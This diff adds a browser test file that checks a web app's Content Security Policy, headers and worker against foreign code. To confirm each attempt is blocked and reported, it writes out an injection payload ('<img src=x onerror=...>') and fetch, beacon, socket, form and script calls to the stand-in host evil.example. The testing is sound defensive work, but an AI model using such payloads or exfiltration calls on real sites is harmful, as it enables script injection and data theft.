@@ -1,0 +1,229 @@
+// What a browser lets happen on our pages and in our worker: nothing foreign, and what is tried is reported.
+/* oxlint-disable no-eval, typescript/no-implied-eval -- that they are refused is what is tested */
+import { readdirSync } from "node:fs";
+import { join } from "node:path";
+import { listPage } from "../../pages/listPage.ts";
+import { evaluateInCore } from "../../support/core/coreWorker.ts";
+import { freezeWorld } from "../../support/stagedDay.ts";
+import { collectComplaints, expect, test } from "../../support/test.ts";
+
+const ASSETS = join(import.meta.dirname, "..", "..", "..", "dist", "assets");
+
+test("every file of the build, the worker and its chunks included, comes with the policy and its own type", async ({
+  request,
+  baseURL,
+}) => {
+  const files = readdirSync(ASSETS);
+  expect(files.some((name) => name.startsWith("live.worker"))).toBe(true);
+  const paths = ["/", "/ar/live", "/nowhere/at/all", "/build.json", "/sitemap.xml", "/images/icon.svg"];
+  for (const path of [...paths, ...files.map((name) => `/assets/${name}`)]) {
+    const answer = await request.head(baseURL + path);
+    const headers = answer.headers();
+    expect(headers["content-security-policy"], path).toContain(
+      "default-src 'none'; script-src 'self'; worker-src",
+    );
+    expect(headers["x-content-type-options"], path).toBe("nosniff");
+    if (path.endsWith(".js")) expect(headers["content-type"]).toBe("text/javascript; charset=utf-8");
+    if (path.endsWith(".css")) expect(headers["content-type"]).toBe("text/css; charset=utf-8");
+  }
+});
+
+test("no document has a script, a style or a handler written into it", async ({ request, baseURL }) => {
+  for (const path of ["/", "/ar/live", "/football/match/1/odds", "/nowhere", "/privacy", "/login"]) {
+    const text = await (await request.get(baseURL + path)).text();
+    const bodies = [...text.matchAll(/<script\b([^>]*)>([^]*?)<\/script>/g)];
+    for (const [, attributes = "", body = ""] of bodies) {
+      // Facts for search engines are data, which no browser runs.
+      if (!attributes.includes("application/ld+json")) expect(body.trim(), path).toBe("");
+    }
+    expect(text, path).not.toMatch(/<style\b|<[a-z][^>]*\s(?:on[a-z]+|style)\s*=|javascript:/i);
+  }
+});
+
+/** Each tries to get code, styles or data past the policy; the directive says what must refuse it. */
+const ATTEMPTS: readonly (readonly [name: string, directive: string, attempt: () => unknown])[] = [
+  [
+    "an inline script",
+    "require-trusted-types-for",
+    () => {
+      const script = document.createElement("script");
+      script.append("globalThis.broken = 1");
+      document.body.append(script);
+    },
+  ],
+  [
+    "a script from elsewhere",
+    "require-trusted-types-for",
+    () => {
+      const script = document.createElement("script");
+      script.src = "https://evil.example/x.js";
+      document.body.append(script);
+    },
+  ],
+  ["eval", "require-trusted-types-for", () => (0, eval)("globalThis.broken = 1")],
+  ["a function out of text", "require-trusted-types-for", () => new Function("globalThis.broken = 1")()],
+  ["a timer out of text", "require-trusted-types-for", () => setTimeout("globalThis.broken = 1" as never)],
+  ["WebAssembly", "script-src", () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))],
+  [
+    "markup out of text",
+    "require-trusted-types-for",
+    () => {
+      document.body.innerHTML = "<img src=x onerror=globalThis.broken=1>";
+    },
+  ],
+  [
+    "a handler out of text",
+    "require-trusted-types-for",
+    () => {
+      const image = document.createElement("b");
+      image.setAttribute("onclick", "globalThis.broken = 1");
+      image.click();
+    },
+  ],
+  [
+    "another policy for texts",
+    "trusted-types",
+    () => {
+      const host = globalThis as unknown as {
+        trustedTypes: { createPolicy(name: string, rules: object): unknown };
+      };
+      host.trustedTypes.createPolicy("touchline-2", {});
+    },
+  ],
+  [
+    "an inline style",
+    "style-src-elem",
+    () => {
+      const style = document.createElement("style");
+      style.append("body{display:none}");
+      document.head.append(style);
+    },
+  ],
+  [
+    "a frame",
+    "frame-src",
+    () => {
+      const frame = document.createElement("iframe");
+      frame.src = "https://evil.example/";
+      document.body.append(frame);
+    },
+  ],
+  [
+    "an object",
+    "require-trusted-types-for",
+    () => {
+      const object = document.createElement("object");
+      object.data = "https://evil.example/x.swf";
+      document.body.append(object);
+    },
+  ],
+  [
+    "a picture from elsewhere",
+    "img-src",
+    () => {
+      new Image().src = "https://evil.example/x.png";
+    },
+  ],
+  [
+    "a sound from elsewhere",
+    "media-src",
+    () => {
+      new Audio("https://evil.example/x.mp3").load();
+    },
+  ],
+  ["a call elsewhere", "connect-src", () => fetch("https://evil.example/").catch(() => undefined)],
+  ["a socket elsewhere", "connect-src", () => new WebSocket("wss://evil.example/")],
+  ["a beacon elsewhere", "connect-src", () => navigator.sendBeacon("https://evil.example/", "x")],
+  [
+    "another base for addresses",
+    "base-uri",
+    () => {
+      const base = document.createElement("base");
+      base.href = "https://evil.example/";
+      document.head.append(base);
+    },
+  ],
+  [
+    "a form that the browser sends",
+    "form-action",
+    () => {
+      const form = document.createElement("form");
+      form.action = "https://evil.example/";
+      document.body.append(form);
+      form.submit();
+    },
+  ],
+];
+
+test("what tries to bring foreign code, styles or data onto a page is refused, and reported", async ({
+  page,
+  policyBreaches,
+}) => {
+  await page.goto("/about");
+  await page.getByRole("heading", { level: 1 }).waitFor();
+  for (const [name, directive, attempt] of ATTEMPTS) {
+    await test.step(name, async () => {
+      // From a timer: what the test's own call runs is let through in part.
+      await page.evaluate(
+        `setTimeout(() => { const attempt = ${attempt.toString()}; try { attempt(); } catch {} })`,
+      );
+      const reported: string[] = [];
+      await expect
+        .poll(async () => {
+          reported.push(...(await policyBreaches.take()).map((breach) => breach.directive));
+          return reported;
+        })
+        .toContain(directive);
+      expect(await page.evaluate("[globalThis.broken, location.pathname].join()")).toBe(",/about");
+    });
+  }
+});
+
+test("the worker is under the same policy, and what it tries is reported", async ({
+  page,
+  browser,
+  product,
+  policyBreaches,
+}) => {
+  await page.goto("/live");
+  await listPage(page).settled();
+  const attempts: Readonly<Record<string, string>> = {
+    "connect-src": `fetch("https://evil.example/").then(() => "sent", () => "refused")`,
+    "require-trusted-types-for": `new Promise((done) => setTimeout(() => { try { done(String((0, eval)("1"))); } catch { done("refused"); } }))`,
+    "script-src-elem": `import("https://evil.example/x.js").then(() => "sent", () => "refused")`,
+  };
+  for (const [directive, attempt] of Object.entries(attempts)) {
+    expect(await evaluateInCore(browser, product.origin, attempt)).toBe("refused");
+    const reported: string[] = [];
+    await expect
+      .poll(async () => {
+        const breaches = await policyBreaches.take();
+        reported.push(...breaches.map((breach) => `${breach.directive} ${breach.document}`));
+        return reported.join("\n");
+      })
+      .toMatch(new RegExp(`${directive === "script-src-elem" ? "script-src" : directive}.*live\\.worker`));
+  }
+});
+
+test("a breach fails the test in which it happens", async ({ page, policyBreaches }) => {
+  const complaints = collectComplaints(page);
+  await page.goto("/about");
+  await page.evaluate(() => setTimeout(() => new Image().setAttribute("src", "https://evil.example/x.png")));
+  // What the fixture asks at a test's end: were nothing taken here, this test would fail.
+  await expect.poll(async () => (await policyBreaches.take()).length).toBe(1);
+  expect(complaints.join()).toContain("Content Security Policy");
+});
+
+test("the pages ask for nothing but what is ours", async ({ page, product, baseURL, complaints }) => {
+  const hosts = new Set<string>();
+  page.on("request", (request) => {
+    if (/^(?:https?|wss?):/.test(request.url())) hosts.add(new URL(request.url()).origin);
+  });
+  const [matchId = 0] = await freezeWorld(product, 1);
+  for (const path of ["/", `/football/match/${matchId}/odds`, "/about", "/settings/theme"]) {
+    await page.goto(path);
+    await expect(page.getByRole("main")).not.toBeEmpty();
+  }
+  expect([...hosts]).toEqual([baseURL]);
+  expect(complaints).toEqual([]);
+});
